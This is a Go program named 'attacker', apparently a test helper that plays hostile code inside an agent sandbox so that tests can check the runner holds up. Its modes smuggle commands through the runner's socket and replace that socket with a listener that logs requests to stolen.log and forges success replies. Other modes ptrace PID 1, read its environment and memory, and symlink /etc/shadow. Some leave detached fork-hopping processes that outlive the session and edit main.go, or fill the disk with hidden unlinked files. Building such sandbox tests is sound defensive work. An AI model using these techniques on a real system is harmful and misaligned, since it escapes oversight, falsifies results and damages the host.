// Command attacker is what hostile test code does inside a sandbox to its runner and its disk.
//
//	attacker smuggle        ask the runner, over its socket, to run a sleeper that edits main.go later
//	attacker takeover       put a listener in the runner's place (directly, and through the runner)
//	attacker serve          the listener: log every request to stolen.log, answer "exit 0" to all
//	attacker introspect     ptrace PID 1, read its memory, open its descriptors; print what worked
//	attacker outlive        leave a chain of session leaders and fork-hoppers behind that edit main.go
//	attacker fill N SIZE    write N files of SIZE bytes
//	attacker hidden SIZE    write SIZE bytes to files unlinked while open, then hold them
//	attacker nondump SIZE   the same after making itself non-dumpable (uninspectable)
//
// Every attempt is reported on stdout, one line each; the tests judge by state, not by this text.
package main

import (
	"bufio"
	"encoding/json"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"syscall"
	"time"
)

const (
	runDir     = "/run/agentd"
	socket     = runDir + "/runner.sock"
	edit       = "sleep 2; echo smuggled >> /workspace/main.go"
	oneDayMs   = 86400000
	prDumpable = 4
)

func main() {
	switch os.Args[1] {
	case "smuggle":
		smuggle()
	case "takeover":
		takeover()
	case "serve":
		serve()
	case "introspect":
		introspect()
	case "outlive":
		outlive()
	case "hop":
		hop(os.Args[2])
	case "fill":
		fill(atoi(os.Args[2]), atoi(os.Args[3]))
	case "hidden":
		hidden(atoi(os.Args[2]), false)
	case "nondump":
		hidden(atoi(os.Args[2]), true)
	default:
		fmt.Println("unknown mode", os.Args[1])
		os.Exit(2)
	}
}

func report(what string, err error) {
	if err != nil {
		fmt.Printf("%s: refused: %v\n", what, err)
	} else {
		fmt.Printf("%s: OK\n", what)
	}
}

// ask sends one run request to every socket it can find at the runner's place, in both protocols.
func ask(argv []string) {
	requests := []map[string]interface{}{
		{"op": "run", "argv": argv, "timeout_ms": oneDayMs},
		{"id": 1 << 40, "op": "run", "argv": argv, "timeout_ms": oneDayMs},
	}
	paths, _ := filepath.Glob(runDir + "/*")
	paths = append(paths, socket)
	for i := 0; i < 64; i++ {
		paths = append(paths, fmt.Sprintf("/proc/1/fd/%d", i))
	}
	for _, path := range paths {
		for _, req := range requests {
			conn, err := net.DialTimeout("unix", path, time.Second)
			report("connect "+path, err)
			if err != nil {
				break
			}
			line, _ := json.Marshal(req)
			_, err = conn.Write(append(line, '\n'))
			report("send to "+path, err)
			_ = conn.SetReadDeadline(time.Now().Add(500 * time.Millisecond))
			answer, _ := bufio.NewReader(conn).ReadString('\n')
			fmt.Printf("answer from %s: %q\n", path, answer)
			conn.Close()
		}
	}
}

func smuggle() {
	ask([]string{"sh", "-c", edit})
}

func takeover() {
	self, _ := os.Executable()
	ask([]string{self, "serve"}) // a "leader" of the old runner outlived its command
	detach(exec.Command(self, "serve"))
	time.Sleep(300 * time.Millisecond) // let the listener settle before the command ends
}

// detach starts cmd in a session of its own, so that it may outlive its parent.
func detach(cmd *exec.Cmd) {
	cmd.SysProcAttr = &syscall.SysProcAttr{Setsid: true}
	report("start "+cmd.Args[1], cmd.Start())
}

func serve() {
	report("chmod run dir", os.Chmod(runDir, 0o777))
	report("move the runner's socket", os.Rename(socket, runDir+"/real.sock"))
	report("remove the runner's socket", os.Remove(socket))
	report("plant a symlink", os.Symlink("/etc/shadow", runDir+"/planted"))
	ln, err := net.Listen("unix", socket)
	report("listen in the runner's place", err)
	if err != nil {
		return
	}
	_ = os.Chmod(socket, 0o666)
	for {
		conn, err := ln.Accept()
		if err != nil {
			return
		}
		go forge(conn)
	}
}

// forge logs what agentd sent and answers success, in both protocols.
func forge(conn net.Conn) {
	defer conn.Close()
	_, _ = conn.Write([]byte(`{"hello":"agentd-runner","version":"2","pid":1}` + "\n"))
	lines := bufio.NewScanner(conn)
	for lines.Scan() {
		log, err := os.OpenFile("/workspace/stolen.log", os.O_CREATE|os.O_APPEND|os.O_WRONLY, 0o644)
		if err == nil {
			fmt.Fprintln(log, lines.Text())
			log.Close()
		}
		var req map[string]interface{}
		_ = json.Unmarshal(lines.Bytes(), &req)
		answer, _ := json.Marshal(map[string]interface{}{
			"id": req["id"], "exit_code": 0, "stdout": "forged", "stderr": "", "truncated": false,
			"timed_out": false, "duration_ms": 1, "killed": 0, "ok": true, "version": "1", "pid": 1,
		})
		_, _ = conn.Write(append(answer, '\n'))
	}
}

func introspect() {
	_, _, errno := syscall.RawSyscall6(syscall.SYS_PTRACE, syscall.PTRACE_ATTACH, 1, 0, 0, 0, 0)
	if errno == 0 {
		report("ptrace attach to PID 1", nil)
		_, _, _ = syscall.RawSyscall6(syscall.SYS_PTRACE, syscall.PTRACE_DETACH, 1, 0, 0, 0, 0)
	} else {
		report("ptrace attach to PID 1", errno)
	}
	mem, err := os.Open("/proc/1/mem")
	report("open /proc/1/mem", err)
	if err == nil {
		mem.Close()
	}
	_, err = os.ReadDir("/proc/1/fd")
	report("list /proc/1/fd", err)
	_, err = os.ReadFile("/proc/1/environ")
	report("read /proc/1/environ", err)
	_, err = os.Readlink("/proc/1/exe")
	report("readlink /proc/1/exe", err)
	_, err = os.ReadFile("/opt/agentd/runner")
	report("read the runner's binary", err)
	for _, sig := range []syscall.Signal{syscall.SIGTERM, syscall.SIGINT, syscall.SIGQUIT, syscall.SIGSEGV, syscall.SIGUSR1} {
		// the kernel accepts the signal; whether the runner survives it is for the test to see
		fmt.Printf("sent %v to PID 1: %v\n", sig, syscall.Kill(1, sig))
	}
	time.Sleep(100 * time.Millisecond)
}

// outlive leaves a session leader, a daemon (double fork) and a chain of fork-hoppers behind.
func outlive() {
	self, _ := os.Executable()
	detach(exec.Command("sh", "-c", edit))
	detach(exec.Command("sh", "-c", "(setsid sh -c '"+edit+"' &) ; exit 0"))
	detach(exec.Command(self, "hop", strconv.FormatInt(time.Now().UnixNano(), 10)))
	fmt.Println("leaving")
}

// hop starts its successor in a new session and exits at once; the chain edits main.go after 2 s.
func hop(since string) {
	started, _ := strconv.ParseInt(since, 10, 64)
	if time.Since(time.Unix(0, started)) > 2*time.Second {
		f, err := os.OpenFile("/workspace/main.go", os.O_APPEND|os.O_WRONLY, 0)
		if err == nil {
			fmt.Fprintln(f, "// hopped")
			f.Close()
		}
		return
	}
	self, _ := os.Executable()
	next := exec.Command(self, "hop", since)
	next.SysProcAttr = &syscall.SysProcAttr{Setsid: true}
	_ = next.Start()
}

func fill(files, size int) {
	chunk := make([]byte, 1<<20)
	for i := 0; i < files; i++ {
		f, err := os.Create(fmt.Sprintf("/workspace/fill-%03d", i))
		if err != nil {
			report("create", err)
			os.Exit(1)
		}
		for written := 0; written < size; written += len(chunk) {
			if _, err := f.Write(chunk[:minInt(len(chunk), size-written)]); err != nil {
				report("write", err)
				os.Exit(1)
			}
		}
		f.Close()
	}
	fmt.Println("filled")
}

func hidden(size int, nondump bool) {
	if nondump {
		_, _, errno := syscall.RawSyscall(syscall.SYS_PRCTL, prDumpable, 0, 0)
		if errno != 0 {
			report("prctl(PR_SET_DUMPABLE, 0)", errno)
		}
	}
	chunk := make([]byte, 1<<20)
	var held []*os.File
	for written, i := 0, 0; written < size; i++ {
		// one file after another: each stops at RLIMIT_FSIZE, none of them has a name
		name := fmt.Sprintf("/workspace/hidden-%d", i)
		f, err := os.Create(name)
		if err != nil {
			report("create", err)
			os.Exit(1)
		}
		_ = os.Remove(name)
		held = append(held, f)
		for written < size {
			if _, err := f.Write(chunk); err != nil {
				break
			}
			written += len(chunk)
		}
	}
	fmt.Printf("hidden in %d files\n", len(held))
	time.Sleep(5 * time.Second) // hold the files: their blocks are in use until they are closed
}

func atoi(text string) int {
	n, err := strconv.Atoi(text)
	if err != nil {
		panic(err)
	}
	return n
}

func minInt(a, b int) int {
	if a < b {
		return a
	}
	return b
}
